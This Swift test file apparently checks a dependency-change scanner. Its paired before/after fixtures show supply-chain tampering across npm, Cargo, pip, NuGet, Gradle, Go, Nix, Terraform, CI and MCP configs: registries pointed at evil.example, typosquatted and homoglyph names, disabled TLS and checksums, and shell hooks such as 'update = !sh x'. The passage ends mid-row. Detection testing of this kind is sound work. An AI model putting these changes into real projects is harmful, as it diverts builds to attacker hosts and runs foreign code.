import DependencyChecks
import Documents
import Lockfiles
import Testing

/// Kinds of attack in formats in which they were not tried before.
@Suite("Attacks of one format in another")
struct PairedAttackTests {
  /// A change, and what must be said of it; `opaque` where the file must not be read at all.
  struct Row: Sendable, CustomTestStringConvertible {
    let claim: String
    let files: [(path: String, old: String?, new: String?)]
    let expected: String
    var testDescription: String { claim }

    init(_ claim: String, _ path: String, _ old: String?, _ new: String?, _ expected: String) {
      self.init(claim, [(path, old, new)], expected)
    }

    init(_ claim: String, _ files: [(path: String, old: String?, new: String?)], _ expected: String)
    {
      self.claim = claim
      self.files = files
      self.expected = expected
    }
  }

  private static let sha = Judged.hex("a")
  private static let commit = Judged.hex("a", 20)

  private static func cargo(_ lines: String) -> String {
    "version = 4\n\n[[package]]\nname = \"a\"\nversion = \"1.0.0\"\n\(lines)\n"
  }
  private static let crates = "source = \"registry+https://github.com/rust-lang/crates.io-index\"\n"

  private static func flake(_ locked: String) -> String {
    """
    {"nodes": {"root": {"inputs": {"n": "n"}}, "n": {"locked": {\(locked)}, "original": {"type": "github",
    "owner": "o", "repo": "r"}}}, "root": "root", "version": 7}

    """
  }

  private static func swift(_ pin: String) -> String {
    "{\"pins\": [{\"identity\": \"x\", \"kind\": \"remoteSourceControl\", \(pin)}], \"version\": 2}\n"
  }

  private static func workflow(_ step: String) -> String {
    "on: push\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - \(step)\n"
  }

  private static func terraform(_ address: String, _ version: String, _ hashes: String) -> String {
    "provider \"\(address)\" {\n  version = \"\(version)\"\n  hashes = [\n    \(hashes)\n  ]\n}\n"
  }

  private static func manifest(_ members: String) -> String { "{\n\(members)\n}\n" }

  static let names: [Row] = [
    Row(
      "two new names that a manifest asks for are one letter apart", "package.json",
      manifest("\"name\": \"a\""),
      manifest("\"dependencies\": {\"acme-ledger\": \"1\", \"acme-ledgers\": \"1\"}"),
      "226 high: acme-ledgers 1   is one letter away from acme-ledger"),
    Row(
      "two new names of a new lock that its project asks for", "package-lock.json", nil,
      Judged.npm([
        (
          "acme-ledger", "1.0.0", "https://registry.npmjs.org/acme-ledger/-/acme-ledger-1.0.0.tgz",
          Judged.sha512("A")
        ),
        (
          "acme_ledger", "1.0.0", "https://registry.npmjs.org/acme_ledger/-/acme_ledger-1.0.0.tgz",
          Judged.sha512("B")
        ),
      ]), "226 high: acme_ledger 1.0.0   is its separators away from acme-ledger"),
    Row(
      "a name that another package brought, and that the project asks for now",
      [
        (
          "package.json", manifest("\"dependencies\": {\"acme-ledger\": \"1\"}"),
          manifest("\"dependencies\": {\"acme-ledger\": \"1\", \"acme-ledgr\": \"1\"}")
        ),
        ("package-lock.json", transitive("MIT"), transitive("ISC")),
      ], "226 high: acme-ledgr 1   is one letter away from acme-ledger"),
    Row(
      "two new crates", "Cargo.toml", "[dependencies]\n",
      "[dependencies]\nacme_core = \"1\"\nacme-core = \"1\"\n",
      "226 high: acme-core 1   is its separators away from acme_core"),
  ]

  /// A lock in which `acme-ledgr` is there for another package.
  private static func transitive(_ license: String) -> String {
    """
    {"lockfileVersion": 3, "packages": {"": {"dependencies": {"acme-ledger": "1"}},
    "node_modules/acme-ledger": {"version": "1.0.0", "license": "\(license)", "dependencies": {"acme-ledgr": "1"}},
    "node_modules/acme-ledgr": {"version": "1.0.0"}}}

    """
  }

  static let configuration: [Row] = [
    Row(
      "Cargo: crates.io is replaced by a folder", ".cargo/config.toml", "[net]\nretry = 2\n",
      "[net]\nretry = 2\n[source.crates-io]\nreplace-with = \"v\"\n[source.v]\ndirectory = \"v\"\n",
      "234 high"),
    Row(
      "Cargo: a registry of the company's name elsewhere", ".cargo/config.toml",
      "[registries.corp]\nindex = \"sparse+https://cargo.corp.example/\"\n",
      "[registries.corp]\nindex = \"sparse+https://cargo.evil.example/\"\n", "234 high"),
    Row(
      "Cargo: a program before the compiler", ".cargo/config.toml", "[build]\njobs = 2\n",
      "[build]\njobs = 2\nrustc-wrapper = \"./x\"\n", "224 high"),
    Row(
      "npm: a scope's registry", ".npmrc", "save-exact=true\n",
      "save-exact=true\n@acme:registry=https://evil.example/\n", "234 high"),
    Row(
      "npm: a certificate is not checked", ".npmrc", "save-exact=true\n",
      "save-exact=true\nstrict-ssl=false\n", "234 high"),
    Row(
      "npm: a program of the shell", ".npmrc", "save-exact=true\n",
      "save-exact=true\nscript-shell=./x\n", "224 high"),
    Row(
      "npm: a program in git's place", ".npmrc", "save-exact=true\n", "save-exact=true\ngit=./x\n",
      "224 high"),
    Row(
      "npm: options of node", ".npmrc", "save-exact=true\n",
      "save-exact=true\nnode-options=--require ./x.js\n", "224 high"),
    Row(
      "npm: scripts are allowed again", ".npmrc", "ignore-scripts=true\n", "ignore-scripts=false\n",
      "high"),
    Row(
      "pip: another index in a file of pip's", "pip.conf", "[global]\ntimeout = 60\n",
      "[global]\ntimeout = 60\nextra-index-url = https://evil.example/simple\n", "234 high"),
    Row(
      "pip: a host that is not verified", "pip.conf", "[global]\ntimeout = 60\n",
      "[global]\ntimeout = 60\ntrusted-host = pypi.org\n", "234 high"),
    Row(
      "uv: the strategy that lets any index answer", "uv.toml", "offline = false\n",
      "offline = false\nindex-strategy = \"unsafe-best-match\"\n", "234 high"),
    Row(
      "uv: build isolation is off", "uv.toml", "offline = false\n",
      "offline = false\nno-build-isolation = true\n", "224 high"),
    Row(
      "NuGet: one source more", "NuGet.config",
      "<configuration><packageSources>\n<add key=\"a\" value=\"https://a.example\"/>\n</packageSources></configuration>\n",
      "<configuration><packageSources>\n<add key=\"a\" value=\"https://a.example\"/>\n<add key=\"b\" value=\"https://evil.example\"/>\n</packageSources></configuration>\n",
      "234 high"),
    Row(
      "NuGet: the source of a prefix", "NuGet.config",
      "<configuration><packageSourceMapping>\n<packageSource key=\"corp\"><package pattern=\"Corp.*\"/></packageSource>\n</packageSourceMapping></configuration>\n",
      "<configuration><packageSourceMapping>\n<packageSource key=\"public\"><package pattern=\"Corp.*\"/></packageSource>\n</packageSourceMapping></configuration>\n",
      "234 high"),
    Row(
      "bun: a scope's registry", "bunfig.toml", "[install]\nexact = true\n",
      "[install]\nexact = true\n[install.scopes]\nacme = \"https://evil.example\"\n", "234 high"),
    Row(
      "bun: a file before every other", "bunfig.toml", "[install]\nexact = true\n",
      "preload = [\"./x.ts\"]\n[install]\nexact = true\n", "224 high"),
    Row(
      "Yarn: hardened mode is off", ".yarnrc.yml", "enableHardenedMode: true\n",
      "enableHardenedMode: false\n", "high"),
    Row(
      "Yarn: another yarn", ".yarnrc.yml", "nodeLinker: pnp\n",
      "nodeLinker: pnp\nyarnPath: ./x.cjs\n", "224 high"),
    Row(
      "Yarn: checksums are written anew", ".yarnrc.yml", "nodeLinker: pnp\n",
      "nodeLinker: pnp\nchecksumBehavior: update\n", "high"),
    Row(
      "Yarn: hosts without TLS", ".yarnrc.yml", "nodeLinker: pnp\n",
      "nodeLinker: pnp\nunsafeHttpWhitelist: [\"*\"]\n", "high"),
    Row(
      "Maven: a mirror of everything", ".mvn/settings.xml", "<settings>\n<mirrors/>\n</settings>\n",
      "<settings>\n<mirrors><mirror><id>a</id><url>https://evil.example</url><mirrorOf>*</mirrorOf></mirror></mirrors>\n</settings>\n",
      "234 high"),
    Row(
      "Maven: a plug-in of the core", ".mvn/extensions.xml", "<extensions>\n</extensions>\n",
      "<extensions>\n<extension><groupId>g</groupId><artifactId>a</artifactId><version>1</version></extension>\n</extensions>\n",
      "224 high"),
    Row(
      "Gradle: a script of the start", "init.gradle", "// a\n",
      "apply from: 'https://evil.example/x.gradle'\n", "high"),
    Row(
      "Bundler: a mirror", ".bundle/config", "BUNDLE_JOBS: \"4\"\n",
      "BUNDLE_JOBS: \"4\"\nBUNDLE_MIRROR__HTTPS://RUBYGEMS__ORG/: \"https://evil.example/\"\n",
      "234 high"),
    Row(
      "SwiftPM: a mirror", ".swiftpm/configuration/mirrors.json",
      "{\"object\": [], \"version\": 1}\n",
      "{\"object\": [{\"mirror\": \"https://evil.example/x\", \"original\": \"https://git.example/x\"}], \"version\": 1}\n",
      "234 high"),
    Row(
      "Go: a proxy, and no sums", "go.env", "GOPROXY=https://proxy.golang.org\n",
      "GOPROXY=https://evil.example\nGONOSUMDB=*\n", "234 high"),
    Row(
      "Git: a submodule's address", ".gitmodules",
      "[submodule \"a\"]\n\tpath = a\n\turl = https://git.example/o/a\n",
      "[submodule \"a\"]\n\tpath = a\n\turl = https://git.example/evil/a\n", "high"),
    Row(
      "Git: a submodule is updated by a command", ".gitmodules",
      "[submodule \"a\"]\n\tpath = a\n\turl = https://git.example/o/a\n",
      "[submodule \"a\"]\n\tpath = a\n\turl = https://git.example/o/a\n\tupdate = !sh x\n", "high"),
    Row(
      "conda: a channel", ".condarc", "channels:\n  - conda-forge\n",
      "channels:\n  - https://evil.example/c\n  - conda-forge\n", "234 high"),
    Row(
      "Terraform: a mirror of providers", ".terraformrc", "disable_checkpoint = true\n",
      "disable_checkpoint = true\nprovider_installation {\n  network_mirror {\n    url = \"https://evil.example/\"\n  }\n}\n",
      "234 high"),
    Row(
      "Gradle: another archive of the wrapper", "gradle/wrapper/gradle-wrapper.properties",
      "distributionUrl=https\\://services.gradle.org/distributions/gradle-8.7-bin.zip\ndistributionSha256Sum=\(sha)\n",
      "distributionUrl=https\\://services.gradle.org@evil.example/distributions/gradle-8.7-bin.zip\ndistributionSha256Sum=\(sha)\n",
      "critical"),
  ]

  static let manifests: [Row] = [
    Row(
      "npm: an override with the lock untouched", "package.json", manifest("\"name\": \"a\""),
      manifest("\"name\": \"a\",\n\"overrides\": {\"ms\": \"npm:evil@1.0.0\"}"), "234 high"),
    Row(
      "Yarn: a resolution to an address", "package.json", manifest("\"name\": \"a\""),
      manifest("\"name\": \"a\",\n\"resolutions\": {\"ms\": \"https://evil.example/ms.tgz\"}"),
      "234 high"),
    Row(
      "pnpm: a dependency that is patched", "pnpm-workspace.yaml", "packages: []\n",
      "packages: []\npatchedDependencies:\n  ms: patches/ms.patch\n", "high"),
    Row(
      "pnpm: builds of everything are allowed", "pnpm-workspace.yaml", "packages: []\n",
      "packages: []\ndangerouslyAllowAllBuilds: true\n", "high"),
    Row(
      "pnpm: a catalog's alias", "pnpm-workspace.yaml", "catalog:\n  ms: 2.1.3\n",
      "catalog:\n  ms: npm:evil@2.1.3\n", "218 high"),
    Row(
      "npm: a range that becomes a forge's branch", "package.json",
      manifest("\"dependencies\": {\"ms\": \"^2.0.0\"}"),
      manifest("\"dependencies\": {\"ms\": \"github:evil/ms#main\"}"), "high"),
    Row(
      "npm: an address with a user before the host", "package.json",
      manifest("\"dependencies\": {\"ms\": \"^2.0.0\"}"),
      manifest("\"dependencies\": {\"ms\": \"https://registry.npmjs.org@evil.example/ms.tgz\"}"),
      "222 critical"),
    Row(
      "npm: a path out of the repository", "package.json",
      manifest("\"dependencies\": {\"ms\": \"^2.0.0\"}"),
      manifest("\"dependencies\": {\"ms\": \"file:../../../srv/ms\"}"), "high"),
    Row(
      "Cargo: a path out of the repository", "Cargo.toml", "[dependencies]\na = \"1\"\n",
      "[dependencies]\na = { path = \"../../srv/a\" }\n", "high"),
    Row(
      "Cargo: the package under a name", "Cargo.toml", "[dependencies]\nserde = \"1\"\n",
      "[dependencies]\nserde = { version = \"1\", package = \"serde-evil\" }\n", "218 high"),
    Row(
      "Cargo: a commit that becomes a branch", "Cargo.toml",
      "[dependencies]\na = { git = \"https://git.example/o/a\", rev = \"\(commit)\" }\n",
      "[dependencies]\na = { git = \"https://git.example/o/a\", branch = \"main\" }\n", "219 high"),
    Row(
      "Cargo: crates.io is patched", "Cargo.toml", "[dependencies]\na = \"1\"\n",
      "[dependencies]\na = \"1\"\n[patch.crates-io]\na = { git = \"https://git.example/evil/a\" }\n",
      "234 high"),
    Row(
      "Cargo: a UNC path", "Cargo.toml", "[dependencies]\na = \"1\"\n",
      "[dependencies]\na = { path = '\\\\evil.example\\share\\a' }\n", "critical"),
    Row(
      "Python: a file of a share", "requirements.txt", "a==1\n",
      "a==1\nb @ file://evil.example/share/b.whl\n", "222 critical"),
    Row(
      "uv: a source of its own for a dependency", "pyproject.toml",
      "[project]\nname = \"x\"\ndependencies = [\"a\"]\n",
      "[project]\nname = \"x\"\ndependencies = [\"a\"]\n[tool.uv.sources]\na = { git = \"https://git.example/evil/a\" }\n",
      "234 high"),
    Row(
      "uv: dependencies that override others", "pyproject.toml", "[project]\nname = \"x\"\n",
      "[project]\nname = \"x\"\n[tool.uv]\noverride-dependencies = [\"a @ https://evil.example/a.whl\"]\n",
      "high"),
    Row(
      "Python: a build that needs another program", "pyproject.toml",
      "[build-system]\nrequires = [\"setuptools\"]\n",
      "[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"x\"\nbackend-path = [\".\"]\n",
      "224 high"),
    Row(
      "Go: a module is replaced by a folder elsewhere", "go.mod",
      "module x\n\nrequire a.example/a v1.0.0\n",
      "module x\n\nrequire a.example/a v1.0.0\n\nreplace a.example/a => ../../a\n", "234 high"),
    Row(
      "Go: a toolchain", "go.mod", "module x\n\ngo 1.22\n",
      "module x\n\ngo 1.22\n\ntoolchain go1.22.0-evil\n", "224 high"),
    Row(
      "composer: a repository of its own", "composer.json", manifest("\"name\": \"a/a\""),
      manifest(
        "\"name\": \"a/a\",\n\"repositories\": [{\"type\": \"composer\", \"url\": \"https://evil.example\"}]"
      ),
      "234 high"),
    Row(
      "Dart: an override of a dependency", "pubspec.yaml", "name: a\n",
      "name: a\ndependency_overrides:\n  b:\n    git: https://git.example/evil/b\n", "234 high"),
    Row(
      "Helm: the repository of a chart", "Chart.yaml",
      "name: a\ndependencies:\n  - name: b\n    version: 1.0.0\n    repository: https://charts.corp.example\n",
      "name: a\ndependencies:\n  - name: b\n    version: 1.0.0\n    repository: https://charts.evil.example\n",
      "high"),
    Row(
      "Zig: another archive with another hash", "build.zig.zon",
      ".{ .name = .x, .version = \"0.1.0\", .dependencies = .{ .a = .{ .url = \"https://files.example/a-1.0.0.tar.gz\", .hash = \"1220\(sha)\" } }, .paths = .{\"\"} }\n",
      ".{ .name = .x, .version = \"0.1.0\", .dependencies = .{ .a = .{ .url = \"https://files.evil.example/a-1.0.0.tar.gz\", .hash = \"1220\(sha)\" } }, .paths = .{\"\"} }\n",
      "critical"),
    Row(
      "compose: an image by digest becomes a tag", "compose.yml",
      "services:\n  a:\n    image: o/a@sha256:\(sha)\n", "services:\n  a:\n    image: o/a:latest\n",
      "high"),
    Row(
      "compose: an image of another registry", "compose.yml",
      "services:\n  a:\n    image: registry.corp.example/a:1\n",
      "services:\n  a:\n    image: registry.evil.example/a:1\n", "high"),
    Row(
      "GitHub: an action of an owner that looks the same", ".github/workflows/ci.yml",
      workflow("uses: actions/checkout@\(commit)"), workflow("uses: actlons/checkout@\(commit)"),
      "high"),
    Row(
      "GitHub: a commit that becomes a tag", ".github/workflows/ci.yml",
      workflow("uses: actions/checkout@\(commit)"), workflow("uses: actions/checkout@v4"), "high"),
    Row(
      "GitHub: an image of a registry in a step", ".github/workflows/ci.yml",
      workflow("uses: docker://o/a@sha256:\(sha)"), workflow("uses: docker://evil/a:latest"), "high"
    ),
    Row(
      "GitHub: a reusable workflow of another owner", ".github/workflows/ci.yml",
      "on: push\njobs:\n  a:\n    uses: o/r/.github/workflows/x.yml@\(commit)\n",
      "on: push\njobs:\n  a:\n    uses: evil/r/.github/workflows/x.yml@\(commit)\n", "high"),
    Row(
      "GitLab: a component of another project", ".gitlab-ci.yml",
      "include:\n  - component: git.example/o/c@1.0.0\n",
      "include:\n  - component: git.example/evil/c@1.0.0\n", "234 high"),
    Row(
      "CircleCI: an orb of another owner", ".circleci/config.yml",
      "version: 2.1\norbs:\n  node: circleci/node@5.0.0\n",
      "version: 2.1\norbs:\n  node: evil/node@5.0.0\n", "high"),
    Row(
      "pre-commit: the same hook of another repository", ".pre-commit-config.yaml",
      "repos:\n  - repo: https://git.example/o/h\n    rev: \(commit)\n    hooks:\n      - id: x\n",
      "repos:\n  - repo: https://git.example/evil/h\n    rev: \(commit)\n    hooks:\n      - id: x\n",
      "high"),
    Row(
      "an MCP server: a key that nobody knows", ".mcp.json", "{\"mcpServers\": {}}\n",
      "{\"mcpServers\": {}, \"x\": {\"command\": \"sh\"}}\n", "236 critical"),
  ]

  static let locks: [Row] = [
    Row(
      "Cargo: a merge of two entries of one name and source", "Cargo.lock",
      cargo(crates + "checksum = \"\(sha)\""),
      cargo(crates + "checksum = \"\(sha)\"")
        + "\n[[package]]\nname = \"a\"\nversion = \"1.0.0\"\n\(crates)checksum = \"\(Judged.hex("b"))\"\n",
      "opaque"),
    Row(
      "Cargo: crates.io with a dot behind the host", "Cargo.lock",
      cargo(crates + "checksum = \"\(sha)\""),
      cargo(
        "source = \"registry+https://github.com./rust-lang/crates.io-index\"\nchecksum = \"\(sha)\""
      ), "critical"),
    Row(
      "Cargo: a digest with something behind it", "Cargo.lock",
      cargo(crates + "checksum = \"\(sha)\""),
      cargo(crates + "checksum = \"\(sha)x\""), "212 critical"),
    Row(
      "Cargo: no digest any more, at a bump", "Cargo.lock",
      cargo(crates + "checksum = \"\(sha)\""),
      cargo(crates + "checksum = \"\"").replacing("1.0.0", with: "1.0.1"), "212 critical"),
    Row(
      "Nix: another owner of one input", "flake.lock",
      flake(
        "\"type\": \"github\", \"owner\": \"o\", \"repo\": \"r\", \"rev\": \"\(commit)\", \"narHash\": \"sha256-\(String(repeating: "A", count: 43))=\""
      ),
      flake(
        "\"type\": \"github\", \"owner\": \"evil\", \"repo\": \"r\", \"rev\": \"\(Judged.hex("b", 20))\", \"narHash\": \"sha256-\(String(repeating: "B", count: 43))=\""
      ),
      "221 "),
    Row(
      "Nix: an input that is a folder now", "flake.lock",
      flake(
        "\"type\": \"github\", \"owner\": \"o\", \"repo\": \"r\", \"rev\": \"\(commit)\", \"narHash\": \"sha256-\(String(repeating: "A", count: 43))=\""
      ),
      flake(
        "\"type\": \"path\", \"path\": \"/srv/x\", \"narHash\": \"sha256-\(String(repeating: "B", count: 43))=\""
      ), "critical"),
    Row(
      "Swift: a version that becomes a branch", "Package.resolved",
      swift(
        "\"location\": \"https://git.example/o/x.git\", \"state\": {\"revision\": \"\(commit)\", \"version\": \"1.0.0\"}"
      ),
      swift(
        "\"location\": \"https://git.example/o/x.git\", \"state\": {\"revision\": \"\(Judged.hex("b", 20))\", \"branch\": \"main\"}"
      ),
      "high"),
    Row(
      "Swift: a repository of a folder", "Package.resolved",
      swift(
        "\"location\": \"https://git.example/o/x.git\", \"state\": {\"revision\": \"\(commit)\", \"version\": \"1.0.0\"}"
      ),
      swift(
        "\"location\": \"/srv/x\", \"state\": {\"revision\": \"\(commit)\", \"version\": \"1.0.0\"}"
      ), "critical"),
    Row(
      "Terraform: the host of a provider", ".terraform.lock.hcl",
      terraform("registry.terraform.io/hashicorp/aws", "5.0.0", "\"zh:\(sha)\","),
      terraform("registry.terraform.io.evil.example/hashicorp/aws", "5.0.1", "\"zh:\(sha)\","),
      "high"),
    Row(
      "Terraform: one digest is left, another one", ".terraform.lock.hcl",
      terraform(
        "registry.terraform.io/hashicorp/aws", "5.0.0", "\"zh:\(sha)\", \"zh:\(Judged.hex("b"))\","),
      terraform("registry.terraform.io/hashicorp/aws", "5.0.0", "\"zh:\(Judged.hex("c"))\","),
      "211 critical"),
    Row(
      "Dart: a hosted package of another server", "pubspec.lock",
      "packages:\n  a:\n    dependency: transitive\n    description:\n      name: a\n      sha256: \"\(sha)\"\n      url: \"https://pub.dev\"\n    source: hosted\n    version: \"1.0.0\"\nsdks:\n  dart: \">=3.0.0\"\n",
      "packages:\n  a:\n    dependency: transitive\n    description:\n      name: a\n      sha256: \"\(sha)\"\n      url: \"https://pub.dev.evil.example\"\n    source: hosted\n    version: \"1.0.1\"\nsdks:\n  dart: \">=3.0.0\"\n",
      "229 critical"),
    Row(
      "Elixir: another package under a name", "mix.lock",
      "%{\n  \"a\": {:hex, :a, \"1.0.0\", \"\(sha)\", [:mix], [], \"hexpm\", \"\(sha)\"},\n}\n",
      "%{\n  \"a\": {:hex, :evil, \"1.0.1\", \"\(sha)\", [:mix], [], \"hexpm\", \"\(sha)\"},\n}\n",
      "218 high"),
    Row(
      "Ruby: a gem that comes from another server", "Gemfile.lock",
      "GEM\n  remote: https://gems.corp.example/\n  specs:\n    corp (1.0.0)\n\nDEPENDENCIES\n  corp\n",
      "GEM\n  remote: https://rubygems.org/\n  specs:\n    corp (99.0.0)\n\nDEPENDENCIES\n  corp\n",
      "229 critical"),
    Row(
      "Ruby: an invented section", "Gemfile.lock",
      "GEM\n  remote: https://rubygems.org/\n  specs:\n    a (1.0.0)\n\nDEPENDENCIES\n  a\n",
      "GEM\n  remote: https://rubygems.org/\n  specs:\n    a (1.0.0)\n\nDEPENDENCIES\n  a\n\nHOOKS\n  sh x\n",
      "243 "),
    Row(
      "CocoaPods: a pod of a fork", "Podfile.lock",
      "PODS:\n  - A (1.0)\n\nDEPENDENCIES:\n  - A (from `https://git.example/o/a`)\n\nEXTERNAL SOURCES:\n  A:\n    :git: https://git.example/o/a\n\nCHECKOUT OPTIONS:\n  A:\n    :commit: \(commit)\n    :git: https://git.example/o/a\n\nSPEC CHECKSUMS:\n  A: \(commit)\n",
      "PODS:\n  - A (1.0)\n\nDEPENDENCIES:\n  - A (from `https://git.example/evil/a`)\n\nEXTERNAL SOURCES:\n  A:\n    :git: https://git.example/evil/a\n\nCHECKOUT OPTIONS:\n  A:\n    :commit: \(commit)\n    :git: https://git.example/evil/a\n\nSPEC CHECKSUMS:\n  A: \(commit)\n",
      "critical"),
    Row(
      "Python: an archive of another project of the index", "uv.lock",
      "version = 1\n\n[[package]]\nname = \"a\"\nversion = \"1.0.0\"\nsource = { registry = \"https://pypi.org/simple\" }\nsdist = { url = \"https://files.pythonhosted.org/packages/a-1.0.0.tar.gz\", hash = \"sha256:\(sha)\" }\n",
      "version = 1\n\n[[package]]\nname = \"a\"\nversion = \"1.0.1\"\nsource = { registry = \"https://pypi.org/simple\" }\nsdist = { url = \"https://files.pythonhosted.org/packages/evil-1.0.1.tar.gz\", hash = \"sha256:\(sha)\" }\n",
      "216 critical"),
    Row(
      "PHP: the archive's commit is not the source's", "composer.lock",
      "{\"content-hash\": \"00\", \"packages\": [{\"name\": \"a/a\", \"version\": \"1.0.0\",\n\"source\": {\"type\": \"git\", \"url\": \"https://git.example/a/a\", \"reference\": \"\(commit)\"},\n\"dist\": {\"type\": \"zip\", \"url\": \"https://api.github.com/repos/a/a/zipball/\(commit)\", \"reference\": \"\(commit)\", \"shasum\": \"\"}}], \"packages-dev\": []}\n",
      "{\"content-hash\": \"00\", \"packages\": [{\"name\": \"a/a\", \"version\": \"1.0.1\",\n\"source\": {\"type\": \"git\", \"url\": \"https://git.example/a/a\", \"reference\": \"\(commit)\"},\n\"dist\": {\"type\": \"zip\", \"url\": \"https://api.github.com/repos/a/a/zipball/\(Judged.hex("b", 20))\", \"reference\": \"\(Judged.hex("b", 20))\", \"shasum\": \"\"}}], \"packages-dev\": []}\n",
      "217 critical"),
    Row(
      "npm: a name in letters of another script", "package-lock.json",
      Judged.npm([
        ("ms", "2.1.3", "https://registry.npmjs.org/ms/-/ms-2.1.3.tgz", Judged.sha512("A"))
      ]),
      Judged.npm([
        ("ms", "2.1.3", "https://registry.npmjs.org/ms/-/ms-2.1.3.tgz", Judged.sha512("A")),
        (
          "l\u{43e}dash", "1.0.0",
          "https://registry.npmjs.org/l\u{43e}dash/-/l\u{43e}dash-1.0.0.tgz", Judged.sha512("B")
        ),
      ]), "233 critical"),
    Row(
      "npm: a dot behind the registry's host, at a bump", "package-lock.json",
      Judged.npm([
        ("ms", "2.1.3", "https://registry.npmjs.org/ms/-/ms-2.1.3.tgz", Judged.sha512("A"))
      ]),
      Judged.npm([
        ("ms", "2.1.4", "https://registry.npmjs.org./ms/-/ms-2.1.4.tgz", Judged.sha512("B"))
      ]),
      "critical"),
    Row(
      "npm: a digest of a weaker algorithm, at a bump", "package-lock.json",
      Judged.npm([
        ("ms", "2.1.3", "https://registry.npmjs.org/ms/-/ms-2.1.3.tgz", Judged.sha512("A"))
      ]),
      Judged.npm([
        (
          "ms", "2.1.4", "https://registry.npmjs.org/ms/-/ms-2.1.4.tgz",
          "sha1-AAAAAAAAAAAAAAAAAAAAAAAAAAA="
        )
      ]),
      "213 "),
    Row(
      "npm: a digest with words behind it", "package-lock.json",
      Judged.npm([
        ("ms", "2.1.3", "https://registry.npmjs.org/ms/-/ms-2.1.3.tgz", Judged.sha512("A"))
      ]),
      Judged.npm([
        ("ms", "2.1.4", "https://registry.npmjs.org/ms/-/ms-2.1.4.tgz", Judged.sha512("B") + "x")
      ]),
      "212 critical"),
    Row(
      "pixi: an environment names an archive that no entry has", "pixi.lock",
      pixi("https://conda.example/linux-64/a-1.0-0.conda"),
      pixi("https://evil.example/linux-64/a-1.0-0.conda"), "opaque"),
    Row(
      "Yarn: one checksum of another form than all others", "yarn.lock",
      berry("10c0/\(Judged.hex("a", 64))"), berry("10c0/\(Judged.hex("a", 20))"), "212 critical"),
    Row(
      "Unity: the digest of a commit", "Packages/packages-lock.json",
      "{\"dependencies\": {\"com.acme.a\": {\"version\": \"https://git.example/o/a.git#v1.0.0\", \"depth\": 0, \"source\": \"git\", \"dependencies\": {}, \"hash\": \"\(commit)\"}}}\n",
      "{\"dependencies\": {\"com.acme.a\": {\"version\": \"https://git.example/o/a.git#v1.0.0\", \"depth\": 0, \"source\": \"git\", \"dependencies\": {}, \"hash\": \"\(Judged.hex("b", 20))\"}}}\n",
      "220 "),
    Row(
      "Deno: a redirect to another module", "deno.lock",
      "{\"version\": \"5\", \"redirects\": {\"https://esm.example/a\": \"https://esm.example/a@1.0.0\"}, \"remote\": {\"https://esm.example/a@1.0.0\": \"\(sha)\"}}\n",
      "{\"version\": \"5\", \"redirects\": {\"https://esm.example/a\": \"https://evil.example/a@1.0.0\"}, \"remote\": {\"https://esm.example/a@1.0.0\": \"\(sha)\"}}\n",
      "234 high"),
    Row(
      "Gradle: everything is trusted", "gradle/verification-metadata.xml",
      "<verification-metadata><configuration>\n<verify-metadata>true</verify-metadata>\n</configuration><components/></verification-metadata>\n",
      "<verification-metadata><configuration>\n<verify-metadata>true</verify-metadata>\n<trusted-artifacts><trust group=\".*\" regex=\"true\"/></trusted-artifacts>\n</configuration><components/></verification-metadata>\n",
      "high"),
    Row(
      "Helm: the digest of the wishes stays, and the chart is another one", "Chart.lock",
      "dependencies:\n- name: base\n  repository: https://charts.corp.example\n  version: 1.0.0\ndigest: sha256:\(sha)\ngenerated: \"2026-01-01T00:00:00Z\"\n",
      "dependencies:\n- name: base\n  repository: oci://evil.example/charts\n  version: 1.0.0\ndigest: sha256:\(sha)\ngenerated: \"2026-01-01T00:00:00Z\"\n",
      "critical"),
    Row(
      "conan: another revision of a recipe, at one version", "conan.lock",
      "{\n\"version\": \"0.5\",\n\"requires\": [\n\"a/1.0#\(Judged.hex("a", 16))%1\"\n]\n}\n",
      "{\n\"version\": \"0.5\",\n\"requires\": [\n\"a/1.0#\(Judged.hex("b", 16))%1\"\n]\n}\n",
      "211 critical"),
    Row(
      "Stack: a package of another archive", "stack.yaml.lock",
      "packages:\n- completed:\n    name: a\n    version: \"1.0\"\n    sha256: \(sha)\n    size: 10\n    url: https://files.example/a-1.0.tar.gz\n  original:\n    url: https://files.example/a-1.0.tar.gz\nsnapshots: []\n",
      "packages:\n- completed:\n    name: a\n    version: \"1.0\"\n    sha256: \(sha)\n    size: 10\n    url: https://evil.example/a-1.0.tar.gz\n  original:\n    url: https://evil.example/a-1.0.tar.gz\nsnapshots: []\n",
      "210 critical"),
  ]

  static let more: [Row] = [
    Row(
      "pdm: what a package asks for is overridden", "pyproject.toml", "[project]\nname = \"x\"\n",
      "[project]\nname = \"x\"\n[tool.pdm.resolution.overrides]\na = \"https://evil.example/a.whl\"\n",
      "234 high"),
    Row(
      "pixi: what a package asks for is overridden", "pixi.toml", "[workspace]\nname = \"x\"\n",
      "[workspace]\nname = \"x\"\n[pypi-options]\nextra-index-urls = [\"https://evil.example/simple\"]\n",
      "234 high"),
    Row(
      "pixi: a dependency of a repository", "pixi.toml", "[workspace]\nname = \"x\"\n",
      "[workspace]\nname = \"x\"\n[pypi-dependencies]\na = { git = \"https://git.example/evil/a\" }\n",
      "high"),
    Row(
      "Poetry: a source that answers first", "pyproject.toml", "[tool.poetry]\nname = \"x\"\n",
      "[tool.poetry]\nname = \"x\"\n[[tool.poetry.source]]\nname = \"x\"\nurl = \"https://evil.example/simple\"\n",
      "234 high"),
    Row(
      "Pipfile: a source", "Pipfile",
      "[[source]]\nname = \"pypi\"\nurl = \"https://pypi.org/simple\"\nverify_ssl = true\n",
      "[[source]]\nname = \"pypi\"\nurl = \"https://pypi.org/simple\"\nverify_ssl = false\n",
      "234 high"),
    Row(
      "Deno: an import by another name", "deno.json",
      manifest("\"imports\": {\"ms\": \"npm:ms@2.1.3\"}"),
      manifest("\"imports\": {\"ms\": \"npm:evil@2.1.3\"}"), "high"),
    Row(
      "Deno: an import by an address", "deno.json",
      manifest("\"imports\": {\"ms\": \"npm:ms@2.1.3\"}"),
      manifest("\"imports\": {\"ms\": \"https://evil.example/ms.ts\"}"), "high"),
    Row(
      "import map: a scope", "import_map.json", "{\"imports\": {}}\n",
      "{\"imports\": {}, \"scopes\": {\"https://esm.example/\": {\"a\": \"https://evil.example/a.js\"}}}\n",
      "high"),
    Row(
      "vcpkg: the registry of some ports", "vcpkg-configuration.json",
      "{\"default-registry\": {\"kind\": \"git\", \"repository\": \"https://git.example/o/vcpkg\", \"baseline\": \"\(commit)\"}}\n",
